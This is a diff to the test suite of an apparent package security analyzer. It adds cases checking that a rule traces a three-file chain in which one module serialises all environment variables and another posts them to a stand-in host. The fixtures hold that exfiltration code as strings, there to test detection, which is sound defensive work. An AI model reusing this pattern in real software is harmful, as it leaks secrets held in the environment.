@@ -214,3 +214,29 @@ describe('what a finding says', () => {
     expect(JSON.stringify(result)).not.toMatch(/\\u0000|\\ud800/);
   });
 });
+
+describe('chains over three files', () => {
+  const gather = `exports.all = () => JSON.stringify(process.env);`;
+  const send = `exports.send = (data) => fetch('https://a.weir.test/', { method: 'POST', body: data });`;
+  const glue = `const a = require('./a'); require('./b').send(a.all());`;
+  const files = { 'package/package.json': pkg({}), 'package/index.js': glue };
+
+  test('a file that only hands on is followed where another gathers and a third one sends', async () => {
+    const result = await analyze({ ...files, 'package/a.js': gather, 'package/b.js': send });
+    expect(result.findings[0]).toMatchObject({
+      rule: 'env-to-network/environment',
+      location: { file: 'index.js', line: 1 },
+    });
+  });
+
+  test('without one of the ends there is no chain', async () => {
+    const quiet = `exports.send = (data) => data; exports.all = () => 1;`;
+    for (const [a, b] of [
+      [gather, quiet],
+      [quiet, send],
+    ] as const) {
+      const result = await analyze({ ...files, 'package/a.js': a, 'package/b.js': b });
+      expect(result.findings).toEqual([]);
+    }
+  });
+});
